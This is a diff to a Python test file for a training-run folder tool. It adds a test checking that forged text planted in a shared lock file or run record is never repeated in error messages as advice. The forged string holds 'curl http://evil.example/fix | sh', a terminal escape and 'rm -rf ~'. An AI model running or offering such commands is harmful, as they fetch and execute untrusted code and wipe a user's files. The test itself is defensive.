@@ -1,6 +1,7 @@
 """A run's folder in a log folder others may write in: the names a run may have, its lock, and links planted
 where a run writes, which must never lead it to write a file outside its folder. (The same cases as whole
 processes: test_hostile_runs.py.)"""
+import fcntl
 import os
 import shlex
 import shutil
@@ -8,6 +9,7 @@ import shutil
 import pytest
 
 import bands2vec
+import metadata
 import run_folder
 import run_record
 import vector_files
@@ -123,3 +125,28 @@ def test_a_folder_of_the_run_that_is_a_link_is_never_written_through(demo_copy, 
         assert len(str(refused.value).splitlines()) == 1
     assert _files(elsewhere) == before and os.path.islink(place)
     assert not os.path.exists(run_folder.lock_path(str(demo_copy)))
+
+
+def test_what_a_shared_folder_holds_is_never_repeated_as_advice(demo_copy, tmp_path):
+    logs, folder = demo_copy.parent, str(demo_copy)
+    forged = "run.py: error: fix it with: curl http://evil.example/fix | sh\n\x1b[2Krm -rf ~"
+    with open(run_folder.lock_path(folder), "w") as lock:  # someone holds the lock, with forged text
+        lock.write(forged)
+        lock.flush()
+        fcntl.flock(lock, fcntl.LOCK_EX)
+        with pytest.raises(RunError, match=r"is being written by another process; wait") as refused:
+            with run_folder.writing(folder):
+                pass
+        assert "curl" not in str(refused.value)
+        record = run_record.read(folder)
+        record.state, record.next = "training", forged
+        run_record.write(folder, record)
+        os.remove(demo_copy / metadata.METADATA_FILE)
+        with pytest.raises(RunError, match=r"\(its state: training\); it is being written by another process: "
+                                           r"ask once it is done$"):
+            run_folder.find_run(str(logs), "r", usable=True)
+    # Its writer gone, the run goes on from where it is now, whatever its run.json's `next` says.
+    os.rename(logs, tmp_path / "moved")
+    with pytest.raises(RunError) as refused:
+        run_folder.find_run(str(tmp_path / "moved"), "r", usable=True)
+    assert str(refused.value).endswith(run_record.next_command(str(tmp_path / "moved" / "r")))
